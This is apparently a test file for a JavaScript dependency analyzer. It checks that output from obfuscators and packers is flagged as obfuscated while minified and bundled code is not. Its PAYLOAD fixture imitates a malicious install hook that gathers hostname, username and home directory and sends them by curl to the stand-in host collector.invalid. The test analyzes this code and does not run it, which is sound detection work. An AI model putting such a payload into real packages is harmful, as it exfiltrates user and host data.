/**
 * The `obfuscated` signal against the real tools, with fixtures generated at test time: obfuscators and
 * packers must be reported (with the signals named in each row), minifiers and bundlers must not. The two
 * tables are the per-class results: one row per tool and preset, the signals it trips, and what the
 * engine still resolves underneath.
 */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import * as esbuild from 'esbuild';
import JavaScriptObfuscator from 'javascript-obfuscator';
import { rollup } from 'rollup';
import { minify } from 'terser';
import { afterAll, describe, expect, it } from 'vitest';
import webpack from 'webpack';
import { analyzeSource } from '../../src/analyze/file.js';
import { packEdwards, unpackEdwards } from '../helpers/edwards-packer.js';

const ROOT = join(dirname(fileURLToPath(import.meta.url)), '..', '..');
const MODULES = join(ROOT, 'node_modules');
const require = createRequire(import.meta.url);
const work = mkdtempSync(join(tmpdir(), 'depcaps-obfuscation-'));
afterAll(() => rmSync(work, { recursive: true, force: true }));

/** What a malicious install hook does, in plain code: shell, host facts, a request. */
const PAYLOAD = `const cp = require('child_process');
const os = require('os');
function collect() {
  const info = { host: os.hostname(), user: os.userInfo().username, home: process.env.HOME };
  return Buffer.from(JSON.stringify(info)).toString('base64');
}
cp.exec('curl -s https://collector.invalid/c -d ' + collect(), (err, out) => {
  if (err) return;
  console.log(out);
});
`;

/** Real inputs from the project's own dependencies (CommonJS and ES modules, 3–90 kB). */
const REAL: Record<string, string> = {
  'semver/classes/range.js': readFileSync(join(MODULES, 'semver/classes/range.js'), 'utf8'),
  'commander/lib/command.js': readFileSync(join(MODULES, 'commander/lib/command.js'), 'utf8'),
  'jsonc-parser/lib/esm/main.js': readFileSync(join(MODULES, 'jsonc-parser/lib/esm/main.js'), 'utf8'),
};

function obfuscate(code: string, options: Record<string, unknown>): string {
  return JavaScriptObfuscator.obfuscate(code, { seed: 7, ...options }).getObfuscatedCode();
}

function jsfuck(code: string): string {
  const { JSFuck } = require('jsfuck') as { JSFuck: { encode(input: string, wrapWithEval: boolean): string } };
  return JSFuck.encode(code, true);
}

async function roadroller(code: string): Promise<string> {
  const { Packer } = await import('roadroller');
  const packer = new Packer([{ data: code, type: 'js' as never, action: 'eval' as never }], {});
  await packer.optimize(0);
  const { firstLine, secondLine } = packer.makeDecoder();
  return `${firstLine}\n${secondLine}\n`;
}

interface Analysed {
  signals: string[];
  capabilities: string[];
  errors: string[];
}

function analyse(code: string, file = 'fixture.js'): Analysed {
  const r = analyzeSource(code, file);
  return {
    signals: [...new Set(r.findings.filter((f) => f.capability === 'obfuscated').map((f) => f.api))].sort(),
    capabilities: [...new Set(r.findings.map((f) => f.capability))].sort(),
    errors: r.errors.map((e) => e.message),
  };
}

interface ObfuscatedRow {
  tool: string;
  input: string;
  build: () => string | Promise<string>;
  /** Signals that must fire (others may too). */
  signals: readonly string[];
  /** Capabilities that must still be reported under the obfuscation. */
  capabilities?: readonly string[];
}

const PRESETS = ['default', 'low-obfuscation', 'medium-obfuscation', 'high-obfuscation'] as const;

const obfuscatedRows: ObfuscatedRow[] = [
  // The payload's `require('child_process')` becomes `require(_0x…(0x…))`: unresolved, reported as such.
  ...PRESETS.map((preset) => ({
    tool: `javascript-obfuscator ${preset}`,
    input: 'payload',
    build: () => obfuscate(PAYLOAD, { optionsPreset: preset }),
    signals: ['hex-identifiers', 'string-array'],
    capabilities: ['dynamic-require'],
  })),
  ...PRESETS.map((preset) => ({
    tool: `javascript-obfuscator ${preset}`,
    input: 'semver/classes/range.js',
    build: () => obfuscate(REAL['semver/classes/range.js']!, { optionsPreset: preset }),
    // The high preset flattens every function it can; medium only some (one dispatch loop here: below the threshold).
    signals: preset === 'high-obfuscation' ? ['control-flow-flattening', 'hex-identifiers', 'string-array'] : ['hex-identifiers', 'string-array'],
  })),
  {
    tool: 'javascript-obfuscator, mangled names (no _0x)',
    input: 'semver/classes/range.js',
    build: () => obfuscate(REAL['semver/classes/range.js']!, { identifierNamesGenerator: 'mangled' }),
    signals: ['string-array'],
  },
  {
    tool: 'javascript-obfuscator, mangled names, no string array, escaped strings',
    input: 'payload',
    build: () => obfuscate(`{\n${PAYLOAD}}\n`.repeat(4), { identifierNamesGenerator: 'mangled', stringArray: false, unicodeEscapeSequence: true }),
    signals: ['escaped-strings'],
  },
  {
    tool: 'javascript-obfuscator, mangled names, control-flow flattening only',
    input: 'commander/lib/command.js',
    build: () => obfuscate(REAL['commander/lib/command.js']!, { identifierNamesGenerator: 'mangled', stringArray: false, controlFlowFlattening: true, controlFlowFlatteningThreshold: 1 }),
    signals: ['control-flow-flattening'],
  },
  { tool: 'JSFuck (jsfuck)', input: 'payload', build: () => jsfuck(PAYLOAD), signals: ['coercion-strings', 'jsfuck'] },
  { tool: "Dean Edwards' packer format", input: 'payload', build: () => packEdwards(PAYLOAD), signals: ['eval-packer'], capabilities: ['eval'] },
  { tool: "Dean Edwards' packer format", input: 'semver/classes/range.js', build: () => packEdwards(REAL['semver/classes/range.js']!), signals: ['eval-packer'] },
  { tool: 'roadroller (eval packer)', input: 'payload', build: () => roadroller(PAYLOAD), signals: ['eval-packer'], capabilities: ['eval'] },
];

describe('obfuscators and packers: reported as obfuscated', () => {
  for (const row of obfuscatedRows) {
    it(`${row.tool} on ${row.input} → ${row.signals.join(', ')}`, async () => {
      const code = await row.build();
      const result = analyse(code);
      expect(result.errors).toEqual([]);
      expect(result.signals).toEqual(expect.arrayContaining([...row.signals]));
      expect(result.capabilities).toEqual(expect.arrayContaining(['obfuscated', ...(row.capabilities ?? [])]));
    });
  }

  it('a file that does not parse still gets the text signals (truncated javascript-obfuscator output)', () => {
    const code = obfuscate(PAYLOAD, { optionsPreset: 'high-obfuscation' });
    const result = analyse(code.slice(0, Math.floor(code.length / 2)));
    expect(result.errors).toHaveLength(1);
    expect(result.signals).toContain('hex-identifiers');
  });

  it("the packer fixture is the real format: it unpacks to its input", () => {
    expect(unpackEdwards(packEdwards(PAYLOAD))).toBe(PAYLOAD.replace(/\r?\n/g, '\n'));
  });
});

interface CleanRow {
  tool: string;
  input: string;
  build: () => string | Promise<string>;
}

async function terser(code: string, module: boolean): Promise<string> {
  return (await minify(code, { module, compress: true, mangle: true })).code ?? '';
}

function esbuildMinify(code: string, format: 'cjs' | 'esm'): string {
  return esbuild.transformSync(code, { minify: true, format, target: 'es2019' }).code;
}

async function esbuildBundle(entry: string, minifyIt: boolean): Promise<string> {
  const out = await esbuild.build({ entryPoints: [entry], bundle: true, write: false, platform: 'node', format: 'cjs', minify: minifyIt, logLevel: 'silent' });
  return out.outputFiles[0]!.text;
}

async function rollupBundle(entry: string): Promise<string> {
  const bundle = await rollup({ input: entry, logLevel: 'silent' });
  try {
    const { output } = await bundle.generate({ format: 'es' });
    return output[0].code;
  } finally {
    await bundle.close();
  }
}

async function webpackBundle(entry: string, mode: 'production' | 'development'): Promise<string> {
  const dir = mkdtempSync(join(work, 'webpack-'));
  const compiler = webpack({
    mode,
    entry,
    target: 'node',
    devtool: false,
    output: { path: dir, filename: 'bundle.js' },
    infrastructureLogging: { level: 'none' },
    stats: 'none',
  });
  await new Promise<void>((resolve, reject) => {
    compiler.run((err, stats) => {
      compiler.close(() => undefined);
      if (err) reject(err);
      else if (stats?.hasErrors()) reject(new Error(stats.toString('errors-only')));
      else resolve();
    });
  });
  return readFileSync(join(dir, 'bundle.js'), 'utf8');
}

const SEMVER = join(MODULES, 'semver/index.js');
const COMMANDER = join(MODULES, 'commander/index.js');
const JSONC_ESM = join(MODULES, 'jsonc-parser/lib/esm/main.js');

const cleanRows: CleanRow[] = [
  { tool: 'plain source', input: 'payload', build: () => PAYLOAD },
  ...Object.entries(REAL).flatMap(([input, code]) => {
    const esm = input.includes('/esm/');
    return [
      { tool: 'terser (compress + mangle)', input, build: () => terser(code, esm) },
      { tool: 'esbuild --minify', input, build: () => esbuildMinify(code, esm ? 'esm' : 'cjs') },
    ];
  }),
  { tool: 'terser (compress + mangle)', input: 'payload', build: () => terser(PAYLOAD, false) },
  { tool: 'esbuild bundle', input: 'semver', build: () => esbuildBundle(SEMVER, false) },
  { tool: 'esbuild bundle --minify', input: 'semver', build: () => esbuildBundle(SEMVER, true) },
  { tool: 'esbuild bundle --minify', input: 'commander', build: () => esbuildBundle(COMMANDER, true) },
  { tool: 'rollup bundle', input: 'jsonc-parser (ESM)', build: () => rollupBundle(JSONC_ESM) },
  { tool: 'rollup bundle + terser', input: 'jsonc-parser (ESM)', build: async () => terser(await rollupBundle(JSONC_ESM), true) },
  { tool: 'webpack production (terser)', input: 'semver', build: () => webpackBundle(SEMVER, 'production') },
  { tool: 'webpack development (eval-free)', input: 'commander', build: () => webpackBundle(COMMANDER, 'development') },
];

describe('minifiers and bundlers: not obfuscated', () => {
  for (const row of cleanRows) {
    it(`${row.tool} of ${row.input} → no signal`, async () => {
      const code = await row.build();
      expect(code.length).toBeGreaterThan(0);
      writeFileSync(join(work, 'last.js'), code);
      const result = analyse(code);
      expect(result.errors).toEqual([]);
      expect(result.signals).toEqual([]);
    });
  }
});
